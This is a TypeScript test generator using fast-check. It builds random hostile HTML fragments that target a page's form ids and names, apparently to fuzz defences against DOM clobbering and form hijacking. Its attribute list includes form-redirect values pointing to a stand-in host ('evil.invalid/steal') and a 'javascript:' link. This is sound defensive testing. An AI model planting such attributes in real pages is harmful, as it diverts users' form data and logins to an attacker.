import fc from 'fast-check';

/** Ids and names of the author's page, and what scripts ask a document, a window or a form for. */
const NAMES = (
  'login password user next search q checkout plan note country submit-login card terms days faq payment dialog help loose ' +
  'cookie getElementById location forms body action submit elements method __proto__ own own-form 0'
).split(' ');

const TAGS = (
  'form form form button button input input input label label select textarea output fieldset option a div span img ' +
  'datalist details summary dialog object iframe table td p template area map meta base svg'
).split(' ');

const ID_ATTRIBUTES = (
  'id id id name name form form form for for list headers aria-controls aria-describedby aria-labelledby aria-owns ' +
  'aria-activedescendant aria-details aria-errormessage aria-flowto popovertarget commandfor usemap itemref anchor ' +
  'interesttarget interestfor target formtarget contextmenu accesskey'
).split(' ');

const OTHERS = [
  ...['formaction="http://evil.invalid/steal"', 'formmethod=get', 'formmethod=dialog', 'formenctype=text/plain'],
  ...[
    'formnovalidate',
    'action="http://evil.invalid/"',
    'method=dialog',
    'method=post',
    'target=_self',
    'form=""',
    'for=""',
  ],
  ...[
    'type=submit',
    'type=submit',
    'type=image',
    'type=hidden',
    'type=radio',
    'type=checkbox',
    'type=reset',
    'type=password',
  ],
  ...[
    'checked',
    'selected',
    'required',
    'disabled',
    'autofocus',
    'tabindex=1',
    'popover',
    'popovertargetaction=show',
    'open',
  ],
  ...[
    'command=show-modal',
    'command=close',
    'command=request-close',
    'rel=opener',
    'value=x',
    'contenteditable',
    'inert',
  ],
  ...['href="#login"', 'href="javascript:1"', 'src=x.png', 'is=x', 'slot=login', 'part=login', 'class=login', 'hidden'],
];

const attribute = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.tuple(fc.constantFrom(...ID_ATTRIBUTES), fc.constantFrom(...NAMES)).map(([a, n]) => `${a}="${n}"`),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...ID_ATTRIBUTES), fc.constantFrom(...NAMES))
      .map(([a, n]) => `${a}=" ${n}	own"`),
  },
  { weight: 2, arbitrary: fc.constantFrom(...OTHERS) },
);

const startTag = fc
  .tuple(fc.constantFrom(...TAGS), fc.array(attribute, { minLength: 1, maxLength: 4 }))
  .map(([tag, attributes]) => `<${[tag, ...new Set(attributes)].join(' ')}>`);

/** What a hostile provider may write: aimed at the forms, ids and names of the page in page.ts. */
export const hostileForm: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 8, arbitrary: startTag },
      { weight: 2, arbitrary: fc.constantFrom(...TAGS).map((tag) => `</${tag}>`) },
      {
        weight: 1,
        arbitrary: fc.constantFrom('text', '<p>', '</div></form>', '<table><tr><form>', '<select><option>'),
      },
    ),
    { minLength: 1, maxLength: 8 },
  )
  .map((parts) => parts.join(''));
